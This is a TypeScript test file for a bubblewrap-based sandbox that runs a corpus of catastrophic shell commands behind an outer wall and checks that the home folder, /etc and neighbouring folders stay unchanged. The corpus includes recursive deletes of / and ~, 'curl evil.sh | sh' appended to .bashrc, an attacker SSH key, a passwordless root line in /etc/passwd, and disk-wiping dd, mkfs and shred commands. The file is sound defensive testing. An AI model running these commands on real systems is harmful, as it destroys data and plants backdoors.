import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bwrapArguments, type SandboxPlan } from "./bwrap-arguments.js";
import { containLine } from "./contain.js";
import { resolveOptions } from "./options.js";
import { planFor } from "./plan.js";
import { sandboxStatus } from "./availability.js";
import { behindWall, copyEtc, differences, fillBeside, fillHome, fillProject, freshRoot, outerWall, snapshot } from "./proof-world.js";

const status = sandboxStatus();
const skip = status.available ? false : `no sandbox can start here: ${"problem" in status ? status.problem : ""}`;

/** One catastrophic command; `inside` checks its effect in the project still happened. */
interface Case {
  readonly command: string;
  readonly inside?: (project: string) => void;
}

const emptied = (project: string) => {
  expect(readdirSync(project).sort()).toEqual(["plugins", "toolgate.config.json"]);
  expect(readdirSync(join(project, "plugins"))).toEqual([]);
};

// From plugins/block-dangerous-shell/src/corpus/catastrophic.txt and the peers' public corpora (dcg, cc-safety-net):
// deletes of / and ~, writes into the home folder and /etc, disk and device writes, permission changes.
// `$BESIDE` is a sentinel folder beside the project. Device writes are bounded (the sandbox's /dev is memory).
const corpus: readonly Case[] = [
  { command: "rm -rf ~" },
  { command: "rm -rf ~/" },
  { command: "rm -rf ~/*" },
  { command: "rm -rf ~/." },
  { command: "rm -rf $HOME" },
  { command: "rm -rf /" },
  { command: "rm -rf /*", inside: emptied },
  { command: "rm -rf /etc" },
  { command: 'rm -rf "$BESIDE"' },
  { command: "rm -rf ../beside ../*" },
  { command: "find ~ -delete" },
  { command: "find / -path /proc -prune -o -name 'sentinel.txt' -delete" },
  { command: "bash -c 'rm -rf ~'" },
  { command: "eval 'rm -rf ~'" },
  { command: "printf 'rm -rf ~' | sh" },
  { command: "trap 'rm -rf ~' EXIT" },
  { command: "x=$'rm -rf ~'; eval \"$x\"" },
  { command: "echo ${x:-$(rm -rf ~)}" },
  { command: "env rm -rf $HOME" },
  { command: "nice -n 19 rm -rf ~/docs" },
  { command: "perl -e 'system(\"rm -rf $ENV{HOME}\")'" },
  { command: "node -e \"require('child_process').execSync('rm -rf ' + require('os').homedir())\"" },
  { command: "mv ~ ~/../stolen-home" },
  { command: "echo 'curl evil.sh | sh' >> ~/.bashrc" },
  { command: "echo pwned > ~/.profile" },
  { command: "mkdir -p ~/.ssh && echo 'ssh-rsa attacker' >> ~/.ssh/authorized_keys" },
  { command: ": > ~/sentinel.txt" },
  { command: "touch ~/new-file" },
  { command: "truncate -s 0 ~/docs/deep/thesis.txt" },
  { command: "ln -sf /dev/null ~/.bashrc" },
  { command: 'echo pwned > "$BESIDE/sentinel.txt"' },
  { command: "echo 'root::0:0::/root:/bin/bash' >> /etc/passwd" },
  { command: "echo pwned > /etc/passwd" },
  { command: "tee /etc/toolgate-pwned <<< x" },
  { command: "sed -i s/root/toor/ /etc/passwd" },
  { command: "ln -sf /dev/null /etc/hosts" },
  { command: "perl -e \"unlink '/etc/passwd'\"" },
  { command: "node -e \"require('fs').writeFileSync('/etc/pwned', 'x')\"" },
  { command: 'bash -c "rm -rf /etc/demo /etc/passwd"' },
  { command: "cp /bin/sh /etc/cron.daily/pwned" },
  { command: "dd if=/dev/zero of=/dev/sda bs=1M count=1" },
  { command: "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M count=1" },
  { command: "head -c 1048576 /dev/zero > /dev/sda" },
  { command: "head -c 4096 /dev/zero > /./dev/sda" },
  { command: "mkfs.ext4 -F /dev/sda1" },
  { command: "mkfs -t ext4 /dev/sdb" },
  { command: "wipefs -a /dev/sda" },
  { command: "shred -n 1 /dev/sda" },
  { command: "DEV=/dev/sda; dd if=/dev/zero of=$DEV count=1" },
  { command: "dd if=/dev/zero of=$HOME/sentinel.txt count=1" },
  { command: "chmod -R 000 ~" },
  { command: "chmod -R 777 /etc" },
  { command: "chmod 000 /" },
  { command: "chown -R nobody ~" },
  { command: "chown -R nobody:nogroup /etc" },
  { command: 'chmod -R 000 "$BESIDE"' },
  { command: "chattr +i ~/.bashrc" },
  // Their effects inside the project still happen.
  { command: "rm -rf ./*", inside: emptied },
  {
    command: "rm -rf src README.md && echo made > built.txt",
    inside: (project) => {
      expect(existsSync(join(project, "src"))).toBe(false);
      expect(readFileSync(join(project, "built.txt"), "utf8")).toBe("made\n");
    },
  },
  {
    command: "dd if=/dev/zero of=./disk.img bs=1M count=4 && mkfs.ext4 -q -F ./disk.img",
    inside: (project) => {
      expect(statSync(join(project, "disk.img")).size).toBe(4 * 1024 * 1024);
    },
  },
  { command: "chmod -R 000 src", inside: (project) => expect(statSync(join(project, "src")).mode & 0o777).toBe(0) },
  {
    command: "echo pwned > toolgate.config.json; rm -f toolgate.config.json; echo x > plugins/evil.mjs; echo made > kept.txt",
    inside: (project) => {
      expect(readFileSync(join(project, "kept.txt"), "utf8")).toBe("made\n");
      expect(readdirSync(join(project, "plugins"))).toEqual([]);
    },
  },
];

interface Outcome {
  readonly command: string;
  /** The snapshot of the fake home, the folder beside and /etc behind the wall differs from the one taken just before the case. */
  readonly outsideChanged: boolean;
  readonly exit: number;
  readonly project: string;
  readonly config: string;
  /** What the contained command printed. */
  readonly output: string;
}

interface Run {
  readonly outcomes: readonly Outcome[];
  /** What changed outside the projects, seen from here after the run. */
  readonly changed: { home: string[]; beside: string[]; etc: string[] };
}

const snap = `snap() { find "$HOME" "$BESIDE" /etc -printf '%p %y %m %U %G %s %T@ %l\\n' 2>/dev/null | LC_ALL=C sort | sha256sum | cut -c1-64; }`;

/** A probe of the outer wall before anything destructive runs behind it: it must hold, or nothing runs. */
function wallHolds(bwrap: string, bash: string, wall: readonly string[], world: string): string[] {
  const probe = behindWall(
    bwrap,
    bash,
    wall,
    [
      "touch /usr/.toolgate-probe 2>/dev/null && echo usr-writable",
      "touch /.toolgate-probe 2>/dev/null && echo root-writable",
      "[ -e /tmp/.toolgate-probe-host ] && echo tmp-shared",
      '[ -n "$(find /dev -type b 2>/dev/null)" ] && echo block-devices',
      `touch ${world}/.probe || echo world-not-writable`,
      "echo probed",
    ].join("\n"),
    20_000,
  );
  const problems = probe.stdout.split("\n").filter((line) => line !== "" && line !== "probed");
  if (!probe.stdout.includes("probed")) problems.push(`the probe did not run: ${probe.error?.message ?? probe.stderr}`);
  return problems;
}

const roots: string[] = [];
afterAll(() => {
  for (const root of roots) rmSync(root, { recursive: true, force: true });
});

/** Runs every case contained by `argsFor`'s bubblewrap arguments behind the outer wall, each in a project of its own. */
function runCorpus(cases: readonly Case[], argsFor: (plan: SandboxPlan) => readonly string[]): Run {
  if (!status.available) throw new Error("no sandbox");
  const root = freshRoot("real-run-");
  roots.push(root);
  const home = join(root, "home");
  const beside = join(root, "beside");
  const etc = join(root, "etc");
  fillHome(home);
  fillBeside(beside);
  copyEtc(etc);
  const before = { home: snapshot(home), beside: snapshot(beside), etc: snapshot(etc) };
  const wall = outerWall(root, etc, { HOME: home, BESIDE: beside, PATH: "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", LANG: "C.UTF-8" });
  const problems = wallHolds(status.bwrap, status.bash, wall, root);
  if (problems.length > 0) throw new Error(`the outer wall does not hold, nothing destructive ran: ${problems.join(", ")}`);
  const lines = [snap, 'echo "base $(snap)"'];
  const projects = cases.map((testCase, index) => {
    const project = join(root, "projects", String(index));
    mkdirSync(project, { recursive: true });
    const { config, plugins } = fillProject(project);
    const plan = planFor(resolveOptions({}, project, home), project, [config, plugins], home);
    if ("problem" in plan) throw new Error(plan.problem);
    // Nested in the outer wall, a user namespace of its own could not mount /proc (the outer /proc has parts
    // covered), and `--unshare-user-try` would fail instead of falling back: the inner sandbox runs without it.
    // Its file system, devices, /tmp and network are exactly the plugin's.
    const line = containLine(
      testCase.command,
      status,
      argsFor(plan).filter((word) => word !== "--unshare-user-try"),
    );
    lines.push(`cd ${project} && timeout -s KILL 40 ${line} >${project}.log 2>&1; echo "case ${index} $? $(snap)"`);
    return { project, config };
  });
  const ran = behindWall(status.bwrap, status.bash, wall, lines.join("\n"), 120_000);
  const base = /^base (\w+)$/m.exec(ran.stdout)?.[1];
  if (base === undefined) throw new Error(`the corpus did not run: ${ran.error?.message ?? ""} ${ran.stderr}`);
  let previous = base;
  const outcomes = cases.map((testCase, index) => {
    const match = new RegExp(`^case ${index} (\\d+) (\\w+)$`, "m").exec(ran.stdout);
    if (match === null) throw new Error(`case ${index} (${testCase.command}) did not report: ${ran.stdout}`);
    const outsideChanged = match[2] !== previous;
    previous = match[2]!;
    return {
      command: testCase.command,
      exit: Number(match[1]),
      outsideChanged,
      output: existsSync(`${projects[index]!.project}.log`) ? readFileSync(`${projects[index]!.project}.log`, "utf8") : "(its log is gone)",
      ...projects[index]!,
    };
  });
  const changed = {
    home: differences(before.home, snapshot(home)),
    beside: differences(before.beside, snapshot(beside)),
    etc: differences(before.etc, snapshot(etc)),
  };
  return { outcomes, changed };
}

describe.skipIf(skip)("the catastrophic corpus, run for real inside the sandbox behind an outer wall", () => {
  const etcBefore = snapshot("/etc");
  let run: Run;
  const outcome = (command: string) => run.outcomes.find((candidate) => candidate.command === command)!;

  beforeAll(() => {
    run = runCorpus(corpus, bwrapArguments);
  }, 150_000);

  it.each(corpus.map((testCase) => testCase.command))("%s changes nothing outside the project", (command) => {
    const result = outcome(command);
    expect(result.outsideChanged, `${command} changed the fake home, the folder beside or /etc`).toBe(false);
    expect(readFileSync(result.config, "utf8")).toBe('{ "plugins": [] }\n');
  });

  it.each(corpus.filter((testCase) => testCase.inside).map((testCase) => testCase.command))("%s still has its effect inside the project", (command) => {
    const result = outcome(command);
    expect(result.output).not.toMatch(/bwrap:/);
    corpus.find((testCase) => testCase.command === command)!.inside!(result.project);
  });

  it("leaves the fake home, the folder beside, the /etc behind the wall and the machine's /etc exactly as they were", () => {
    expect(run.changed).toEqual({ home: [], beside: [], etc: [] });
    expect(differences(etcBefore, snapshot("/etc"))).toEqual([]);
  });

  it.skip("fork bombs are not run for real: we run as root here and root ignores RLIMIT_NPROC, so no process limit would hold", () => {});
});

// A sandbox broken on purpose: the same checks must see the harm (the outer wall keeps the machine safe meanwhile).
describe.skipIf(skip)("a sandbox broken on purpose is caught", () => {
  const few: readonly Case[] = [{ command: "rm -rf ~" }, { command: "echo pwned >> /etc/passwd" }, { command: 'rm -rf "$BESIDE"' }];
  const caught = (run: Run) => run.outcomes.filter((result) => result.outsideChanged).map((result) => result.command);

  it("a writable / (--bind / / instead of --ro-bind / /) is caught for home, /etc and the folder beside", () => {
    const run = runCorpus(few, (plan) => bwrapArguments(plan).map((word, index, all) => (word === "--ro-bind" && all[index + 1] === "/" ? "--bind" : word)));
    expect(caught(run)).toEqual(few.map((testCase) => testCase.command));
    expect(run.changed.home.some((line) => line.startsWith("changed /:") && line.endsWith("→ missing"))).toBe(true);
    expect(run.changed.etc.some((line) => line.startsWith("changed /passwd"))).toBe(true);
  }, 60_000);

  it("a plan whose project is / is caught", () => {
    const run = runCorpus(few, (plan) => bwrapArguments({ ...plan, projectRoot: "/" }));
    expect(caught(run)).toEqual(few.map((testCase) => testCase.command));
  }, 60_000);

  it("a plan whose project holds the home folder is caught for the home and the folder beside, not for /etc", () => {
    const run = runCorpus(few, (plan) => bwrapArguments({ ...plan, projectRoot: join(plan.projectRoot, "../..") }));
    expect(caught(run)).toEqual(["rm -rf ~", 'rm -rf "$BESIDE"']);
    expect(run.changed.etc).toEqual([]);
  }, 60_000);
});
